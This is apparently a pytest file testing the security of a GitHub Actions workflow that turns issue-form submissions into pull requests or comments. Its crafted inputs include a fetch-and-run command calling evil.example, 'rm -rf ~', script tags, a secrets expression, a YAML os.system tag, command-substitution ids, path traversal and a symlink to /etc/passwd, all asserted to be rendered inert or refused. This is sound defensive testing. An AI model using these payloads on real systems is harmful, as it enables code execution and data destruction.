"""The workflow on the issue forms' issues (.github/workflows/issue-form.yml): its
security properties, zizmor on every workflow, the read-only job's script
(:mod:`shora.tools.issue_workflow`) on recorded ``issues`` events, and the writing jobs'
script (scripts/issue-form-apply) against a local repository and a stand-in ``gh``."""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import markdown
import pytest
import yaml

from shora.cli import main as shora_main
from shora.load.loader import load_bytes
from shora.tools.issue_form import MAX_BODY_CHARS
from shora.tools.issue_workflow import decide, fenced, main, write_outcome

from .site_project import REPO

WORKFLOWS = sorted((REPO / ".github" / "workflows").glob("*.yml"))
ISSUE_FORM = REPO / ".github" / "workflows" / "issue-form.yml"
EVENTS = REPO / "tests" / "data" / "issue-events"
APPLY = REPO / "scripts" / "issue-form-apply"
TODAY = dt.date(2026, 11, 22)


def _tool(name: str) -> str:
    found = Path(sys.executable).parent / name
    return str(found) if found.exists() else (shutil.which(name) or name)


def _zizmor() -> str:
    return _tool("zizmor")


def _workflow(path: Path) -> dict:
    # PyYAML reads the key 'on' as True (YAML 1.1).
    return yaml.safe_load(path.read_text(encoding="utf-8"))


# ---------------------------------------------------------------- the workflows


@pytest.mark.parametrize("workflow", WORKFLOWS, ids=lambda p: p.name)
def test_zizmor_reports_nothing(workflow: Path) -> None:
    result = subprocess.run(
        [_zizmor(), "--offline", "--no-progress", "--format", "json", str(workflow)],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=REPO,
        env={**os.environ, "NO_COLOR": "1"},
    )
    assert json.loads(result.stdout) == [], result.stdout
    assert result.returncode == 0, result.stderr


def test_zizmor_finds_what_it_is_run_for(tmp_path: Path) -> None:
    """The check above can fail: the issue's title inside a script is found."""
    bad = tmp_path / "bad.yml"
    bad.write_text(
        "on:\n  issues:\n    types: [opened]\npermissions: {}\njobs:\n  a:\n"
        "    runs-on: ubuntu-24.04\n    steps:\n"
        '      - run: echo "${{ github.event.issue.title }}"\n',
        encoding="utf-8",
    )
    result = subprocess.run(
        [_zizmor(), "--offline", "--no-progress", "--format", "json", str(bad)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "template-injection" in {finding["ident"] for finding in json.loads(result.stdout)}


def test_the_writing_script_passes_shellcheck() -> None:
    result = subprocess.run(
        [_tool("shellcheck"), "--norc", str(APPLY)], capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 0, result.stdout


def test_actionlint_runs_shellcheck_on_the_scripts(tmp_path: Path) -> None:
    """actionlint is given ShellCheck (tests/test_pipeline.py): an unquoted variable in a
    run: script is found."""
    bad = tmp_path / ".github" / "workflows" / "bad.yml"
    bad.parent.mkdir(parents=True)
    bad.write_text(
        "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n"
        "    steps:\n      - run: rm $FILES\n",
        encoding="utf-8",
    )
    result = subprocess.run(
        [_tool("actionlint"), "-no-color", f"-shellcheck={_tool('shellcheck')}", str(bad)],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=tmp_path,
    )
    assert "SC2086" in result.stdout


def test_every_checkout_keeps_no_credentials() -> None:
    for workflow in WORKFLOWS:
        for job in _workflow(workflow)["jobs"].values():
            for step in job.get("steps", []):
                if step.get("uses", "").startswith("actions/checkout@"):
                    assert step["with"]["persist-credentials"] is False, workflow.name


def test_no_expression_inside_any_script() -> None:
    for workflow in WORKFLOWS:
        for job in _workflow(workflow)["jobs"].values():
            for step in job.get("steps", []):
                assert "${{" not in step.get("run", ""), (workflow.name, step)


def test_issue_form_workflow_least_permissions_and_untrusted_body() -> None:
    workflow = _workflow(ISSUE_FORM)
    assert workflow[True] == {"issues": {"types": ["opened", "edited"]}}
    assert workflow["permissions"] == {}
    jobs = workflow["jobs"]
    assert set(jobs) == {"read", "pull-request", "comment"}
    assert jobs["read"]["permissions"] == {"contents": "read"}
    assert "'council'" in jobs["read"]["if"] and "'resolution'" in jobs["read"]["if"]
    assert jobs["pull-request"]["permissions"] == {"contents": "write", "pull-requests": "write"}
    assert jobs["comment"]["permissions"] == {"issues": "write"}
    assert jobs["pull-request"]["if"] == "needs.read.outputs.outcome == 'pull-request'"
    assert jobs["comment"]["if"] == "needs.read.outputs.outcome == 'comment'"
    # The issue's text is read from the event file only, never through an expression.
    text = ISSUE_FORM.read_text(encoding="utf-8")
    for untrusted in ("issue.body", "issue.title", "comment.body", "head_ref"):
        assert untrusted not in text
    # The jobs that write run no Python and nothing of the issue: they check out this
    # repository, download the read-only job's files and run scripts/issue-form-apply.
    for name in ("pull-request", "comment"):
        steps = jobs[name]["steps"]
        uses = [step.get("uses", "").split("@")[0] for step in steps if "uses" in step]
        assert uses == ["actions/checkout", "actions/download-artifact"]
        runs = [step["run"] for step in steps if "run" in step]
        assert runs == [f"scripts/issue-form-apply {name}"]
    read_runs = " ".join(step.get("run", "") for step in jobs["read"]["steps"])
    assert '-m shora.tools.issue_workflow "$GITHUB_EVENT_PATH" proposal' in read_runs


# ---------------------------------------------------------------- the read-only job


def _project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    shutil.copytree(REPO / "resolutions", root / "resolutions")
    shutil.copytree(REPO / "councils", root / "councils")
    return root


def _run(event: Path, tmp_path: Path, root: Path | None = None) -> Path:
    out = tmp_path / "proposal"
    write_outcome(decide(event, root or _project(tmp_path), TODAY), out)
    return out


def _result(out: Path) -> dict:
    return json.loads((out / "result.json").read_text(encoding="utf-8"))


def test_council_issue_opened_makes_a_pull_request(tmp_path: Path) -> None:
    root = _project(tmp_path)
    out = _run(EVENTS / "council-opened.json", tmp_path, root)
    assert _result(out) == {
        "outcome": "pull-request",
        "issue": 12,
        "kind": "council",
        "id": "gothenburg",
        "path": "councils/gothenburg.yml",
    }
    assert sorted(p.name for p in out.iterdir()) == ["file.yml", "pull-request.md", "result.json"]
    # The same file as `shora new council --from-issue` makes of the same body.
    body = tmp_path / "body.md"
    body.write_text(json.loads((EVENTS / "council-opened.json").read_text())["issue"]["body"])
    assert shora_main(["--root", str(root), "new", "council", "--from-issue", str(body)]) == 0
    written = (root / "councils" / "gothenburg.yml").read_text(encoding="utf-8")
    assert (out / "file.yml").read_text(encoding="utf-8") == written
    description = (out / "pull-request.md").read_text(encoding="utf-8")
    assert "\nCloses #12\n" in description
    assert "Made by the issue form from the issue below: councils/gothenburg.yml" in description


def test_resolution_issue_opened_makes_a_valid_file(tmp_path: Path) -> None:
    root = _project(tmp_path)
    out = _run(EVENTS / "resolution-opened.json", tmp_path, root)
    assert _result(out)["path"] == "resolutions/solidarity-with-strikes.yml"
    # Validated in place, then taken away again: the checkout is left as it was.
    assert not (root / "resolutions" / "solidarity-with-strikes.yml").exists()
    shutil.copy(out / "file.yml", root / "resolutions" / "solidarity-with-strikes.yml")
    from shora.validate import validate_project

    report = validate_project(root, today=TODAY)
    assert [d.format() for d in report.diagnostics if d.path.startswith("resolutions/")] == []


def test_incomplete_council_is_answered_in_persian_with_each_problem(tmp_path: Path) -> None:
    out = _run(EVENTS / "council-edited-incomplete.json", tmp_path)
    assert _result(out) == {"outcome": "comment", "issue": 13, "kind": "council"}
    assert sorted(p.name for p in out.iterdir()) == ["comment.md", "result.json"]
    comment = (out / "comment.md").read_text(encoding="utf-8")
    assert comment == (
        "این پیشنهاد هنوز نمی‌تواند فایل شود. issue را ویرایش کنید (در منوی «…»، گزینهٔ «Edit») و "
        "موارد زیر را درست کنید؛ پس از هر ویرایش دوباره بررسی می‌شود.\n\n```text\n"
        "issue-13.md:3:1: خطا: «\u2068Malmö\u2069» شناسهٔ درستی نیست: شناسه از واژه‌های لاتین با "
        "حروف کوچک ساخته می‌شود که با «-» به هم وصل شده‌اند، مثلاً \u200egothenburg\u200e\n"
        "issue-13.md:9:1: خطا: پاسخ «\u2068Name in English\u2069» لازم است: آن را بنویسید\n"
        "issue-13.md:27:1: خطا: «\u2068Country code\u2069»: «\u2068se\u2069» باید با حروف بزرگ "
        "نوشته شود: «\u2068SE\u2069»\n"
        "issue-13.md:51:1: خطا: «\u2068Last verified\u2069»: «\u20682026-11-31\u2069» تاریخ "
        "درستی نیست: نوامبر سال \u20682026\u2069 فقط \u206830\u2069 روز دارد\n```\n"
    )


def _edited_event(tmp_path: Path, name: str, old: str, new: str) -> Path:
    event = json.loads((EVENTS / name).read_text(encoding="utf-8"))
    assert old in event["issue"]["body"]
    event["issue"]["body"] = event["issue"]["body"].replace(old, new)
    path = tmp_path / "event.json"
    path.write_text(json.dumps(event), encoding="utf-8")
    return path


def test_a_problem_only_the_whole_project_shows_is_put_on_its_answer(tmp_path: Path) -> None:
    """The federation must exist: found by validating the project with the new file,
    told on the answer's line, in the form's terms."""
    federation = "### Country federation\r\n\r\n"
    event = _edited_event(
        tmp_path, "council-opened.json", federation + "_No response_", federation + "sweden"
    )
    out = _run(event, tmp_path)
    assert _result(out)["outcome"] == "comment"
    assert (out / "comment.md").read_text(encoding="utf-8").splitlines()[3] == (
        "issue-12.md:40:1: خطا: «\u2068Country federation\u2069»: \u2068federation\u2069: "
        "فدراسیونی با شناسهٔ «\u2068sweden\u2069» نیست "
        "(\u2068councils/federations/sweden.yml\u2069)"
    )


def test_a_file_of_that_id_exists_already(tmp_path: Path) -> None:
    root = _project(tmp_path)
    (root / "councils" / "gothenburg.yml").write_text("name: x\n", encoding="utf-8")
    out = _run(EVENTS / "council-opened.json", tmp_path, root)
    assert (out / "comment.md").read_text(encoding="utf-8").splitlines()[3] == (
        "issue-12.md:3:1: خطا: «\u2068Council id (file name)\u2069»: "
        "\u2068councils/gothenburg.yml\u2069 از پیش وجود دارد: شناسهٔ دیگری انتخاب کنید"
    )


def test_warnings_go_to_the_reviewers(tmp_path: Path) -> None:
    out = tmp_path / "proposal"
    write_outcome(
        decide(EVENTS / "council-opened.json", _project(tmp_path), dt.date(2028, 1, 1)), out
    )
    description = (out / "pull-request.md").read_text(encoding="utf-8")
    assert (
        "For the reviewers:\n\n```text\ncouncils/gothenburg.yml:17:16: warning: last_verified: "
        "last verified on 2026-11-20, more than a year ago: check that the council still "
        "meets and update the date (or its status)\n```\n"
    ) in description


def test_reply_in_english_when_chosen(tmp_path: Path) -> None:
    event = json.loads((EVENTS / "council-edited-incomplete.json").read_text(encoding="utf-8"))
    event["issue"]["body"] = (
        "### Language of replies · زبان پاسخ‌ها\r\n\r\nEnglish\r\n\r\n" + event["issue"]["body"]
    )
    path = tmp_path / "event.json"
    path.write_text(json.dumps(event), encoding="utf-8")
    comment = (_run(path, tmp_path) / "comment.md").read_text(encoding="utf-8")
    assert comment.startswith("This proposal cannot become a file yet.")
    assert "issue-13.md:13:1: error: 'Name in English' is required: answer it" in comment


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("other-label.json", "not labelled by exactly one form"),
        ("council-closed.json", "not an issue opened or edited"),
    ],
)
def test_other_issues_are_left_alone(
    name: str, why: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "proposal"
    output = tmp_path / "github-output"
    os.environ["GITHUB_OUTPUT"] = str(output)
    try:
        assert main([str(EVENTS / name), str(out), "--root", str(_project(tmp_path))]) == 0
    finally:
        del os.environ["GITHUB_OUTPUT"]
    assert capsys.readouterr().out == f"outcome: none ({why})\n"
    assert output.read_text(encoding="utf-8") == "outcome=none\n"
    assert [p.name for p in out.iterdir()] == ["result.json"]


# ---------------------------------------------------------------- crafted bodies


def _html(comment: str) -> str:
    """The comment as Markdown renders it (Python-Markdown with fenced code, as an
    independent reading of the fences)."""
    return markdown.markdown(comment, extensions=["fenced_code"])


def test_hostile_answers_are_shown_inert(tmp_path: Path) -> None:
    out = _run(EVENTS / "council-hostile-answers.json", tmp_path)
    assert _result(out)["outcome"] == "comment"
    comment = (out / "comment.md").read_text(encoding="utf-8")
    assert "$(curl evil.example | sh)`id`" in comment
    html = _html(comment)
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<img" not in html and "<a " not in html
    # Everything after the heading is one code block.
    assert html.count("<pre>") == 1 and html.rstrip().endswith("</code></pre>")


@pytest.mark.parametrize("text", ["plain", "a ``` b", "````", "`x` and ```` and ``````"])
def test_fence_is_longer_than_any_backticks_inside(text: str) -> None:
    block = fenced(text)
    fence = block.split("text\n", 1)[0]
    assert block == f"{fence}text\n{text}\n{fence}"
    assert len(fence) > max((len(r) for r in re.findall("`+", text)), default=0)
    html = _html(block)
    assert html.count("<pre>") == 1


def test_hostile_text_becomes_inert_yaml(tmp_path: Path) -> None:
    out = _run(EVENTS / "resolution-hostile-text.json", tmp_path)
    assert _result(out)["outcome"] == "pull-request"
    text = (out / "file.yml").read_text(encoding="utf-8")
    assert len(list(yaml.safe_load_all(text))) == 1  # one document: no '---' taken as YAML
    document, problems = load_bytes(text.encode("utf-8"), "x.yml")
    assert document is not None and problems == []
    assert document.data["text"]["points"][1] == {
        "fa": "شوراها `$(rm -rf ~)` و <script>alert(1)</script> را رد میکنند: "
        "${{ secrets.TOKEN }} &amp; !!python/object:os.system",
        "en": "The councils reject `$(rm -rf ~)` and <script>alert(1)</script>: "
        "${{ secrets.TOKEN }} &amp; !!python/object:os.system",
    }


def test_yaml_in_a_one_line_answer_is_refused(tmp_path: Path) -> None:
    out = _run(EVENTS / "resolution-hostile-answers.json", tmp_path)
    assert _result(out) == {"outcome": "comment", "issue": 19, "kind": "resolution"}
    comment = (out / "comment.md").read_text(encoding="utf-8")
    assert (
        "issue-19.md:38:1: خطا: «\u2068نهاد تصویب‌کننده به انگلیسی · Adopting body in "
        "English\u2069»: پاسخ را در یک سطر بنویسید (این‌جا ۳ سطر است)"
    ) in comment


def _event_with_body(tmp_path: Path, body: str) -> Path:
    event = json.loads((EVENTS / "council-opened.json").read_text(encoding="utf-8"))
    event["issue"]["body"] = body
    path = tmp_path / "event.json"
    path.write_text(json.dumps(event), encoding="utf-8")
    return path


def test_body_longer_than_a_form_writes_is_answered_not_read(tmp_path: Path) -> None:
    out = _run(_event_with_body(tmp_path, "ش" * (MAX_BODY_CHARS + 1)), tmp_path)
    assert (out / "comment.md").read_text(encoding="utf-8").splitlines()[3] == (
        "issue-12.md:1:1: خطا: متن این issue از آنچه GitHub در یک فرم می‌پذیرد (۶۵٬۵۳۶ نویسه) "
        "بلندتر است: هیچ بخشی از آن خوانده نشد"
    )


def test_ten_megabyte_body_is_refused_unread(tmp_path: Path) -> None:
    out = _run(_event_with_body(tmp_path, "$(x)" * (10 * 1024 * 1024 // 4)), tmp_path)
    assert _result(out) == {"outcome": "none", "issue": 0, "kind": ""}


# ---------------------------------------------------------------- the writing jobs


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run(
        ["git", *args], cwd=cwd, check=True, capture_output=True, text=True
    ).stdout.strip()


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    """A clone of a repository with one commit on main, its origin a local bare one."""
    origin = tmp_path / "origin.git"
    _git(tmp_path, "init", "--quiet", "--bare", "--initial-branch=main", str(origin))
    work = tmp_path / "work"
    _git(tmp_path, "clone", "--quiet", str(origin), str(work))
    (work / "councils").mkdir()
    (work / "councils" / "stockholm.yml").write_text("name: x\n", encoding="utf-8")
    _git(work, "add", ".")
    _git(work, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "--quiet", "-m", "start")
    _git(work, "push", "--quiet", "origin", "HEAD:main")
    return work


def _fake_gh(tmp_path: Path, open_pull_request: str = "") -> Path:
    """A ``gh`` that logs its arguments, and answers ``pr list`` with a number."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    log = tmp_path / "gh.log"
    gh = bin_dir / "gh"
    gh.write_text(
        "#!/usr/bin/env bash\n"
        f'printf "%s\\n" "$*" >> {log}\n'
        f'if [[ $1 == pr && $2 == list ]]; then printf "%s" "{open_pull_request}"; fi\n',
        encoding="utf-8",
    )
    gh.chmod(0o755)
    return bin_dir


def _apply(
    what: str, proposal: Path, cwd: Path, bin_dir: Path, issue: str
) -> subprocess.CompletedProcess[str]:
    env = {
        **os.environ,
        "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
        "PROPOSAL": str(proposal),
        "ISSUE": issue,
        "BASE": "main",
        "GIT_AUTHOR_DATE": "2026-11-22T10:00:00Z",
        "GIT_COMMITTER_DATE": "2026-11-22T10:00:00Z",
    }
    return subprocess.run(
        [str(APPLY), what], cwd=cwd, env=env, capture_output=True, text=True, timeout=60
    )


def _log(tmp_path: Path) -> list[str]:
    log = tmp_path / "gh.log"
    return log.read_text(encoding="utf-8").splitlines() if log.exists() else []


def test_apply_opens_a_pull_request_with_the_file(tmp_path: Path, checkout: Path) -> None:
    proposal = _run(EVENTS / "council-opened.json", tmp_path)
    result = _apply("pull-request", proposal, checkout, _fake_gh(tmp_path), "12")
    assert result.returncode == 0, result.stderr
    origin = tmp_path / "origin.git"
    assert _git(origin, "log", "--format=%s|%an", "issue-form/12").splitlines() == [
        "Council: gothenburg (#12)|github-actions[bot]",
        "start|t",
    ]
    assert _git(origin, "show", "issue-form/12:councils/gothenburg.yml") + "\n" == (
        proposal / "file.yml"
    ).read_text(encoding="utf-8")
    assert _git(origin, "diff", "--name-only", "main", "issue-form/12") == "councils/gothenburg.yml"
    body = proposal / "pull-request.md"
    assert _log(tmp_path) == [
        "auth setup-git",
        "pr list --head issue-form/12 --state open --json number --jq .[0].number // empty",
        f"pr create --base main --head issue-form/12 --title Council: gothenburg (#12) "
        f"--body-file {body}",
    ]


def test_apply_updates_the_open_pull_request(tmp_path: Path, checkout: Path) -> None:
    proposal = _run(EVENTS / "council-opened.json", tmp_path)
    result = _apply("pull-request", proposal, checkout, _fake_gh(tmp_path, "7"), "12")
    assert result.returncode == 0, result.stderr
    assert _log(tmp_path)[-1] == (
        f"pr edit 7 --title Council: gothenburg (#12) --body-file {proposal / 'pull-request.md'}"
    )


def test_apply_comments(tmp_path: Path, checkout: Path) -> None:
    proposal = _run(EVENTS / "council-edited-incomplete.json", tmp_path)
    result = _apply("comment", proposal, checkout, _fake_gh(tmp_path), "13")
    assert result.returncode == 0, result.stderr
    assert _log(tmp_path) == [f"issue comment 13 --body-file {proposal / 'comment.md'}"]


@pytest.mark.parametrize(
    ("change", "issue", "error"),
    [
        ({"path": "../../outside.yml"}, "12", "not the file of council gothenburg"),
        ({"path": ".github/workflows/x.yml"}, "12", "not the file of council gothenburg"),
        ({"id": "$(reboot)", "path": "councils/$(reboot).yml"}, "12", "not an id"),
        ({"kind": "workflow"}, "12", "not a kind of file"),
        ({"outcome": "comment"}, "12", "the proposal's outcome is 'comment'"),
        ({}, "13", "the proposal is of another issue"),
        ({}, "12; id", "not an issue number"),
        ({"id": "stockholm", "path": "councils/stockholm.yml"}, "12", "exists on main already"),
    ],
)
def test_apply_refuses_what_it_was_not_made_for(
    change: dict, issue: str, error: str, tmp_path: Path, checkout: Path
) -> None:
    proposal = _run(EVENTS / "council-opened.json", tmp_path)
    result = json.loads((proposal / "result.json").read_text(encoding="utf-8"))
    (proposal / "result.json").write_text(json.dumps({**result, **change}), encoding="utf-8")
    completed = _apply("pull-request", proposal, checkout, _fake_gh(tmp_path), issue)
    assert completed.returncode == 1
    assert error in completed.stderr
    assert _log(tmp_path) == []
    assert _git(checkout, "status", "--porcelain") == ""


def test_apply_refuses_a_link_in_place_of_the_file(tmp_path: Path, checkout: Path) -> None:
    proposal = _run(EVENTS / "council-opened.json", tmp_path)
    (proposal / "file.yml").unlink()
    (proposal / "file.yml").symlink_to("/etc/passwd")
    completed = _apply("pull-request", proposal, checkout, _fake_gh(tmp_path), "12")
    assert completed.returncode == 1 and "missing: file.yml" in completed.stderr
    assert _log(tmp_path) == []
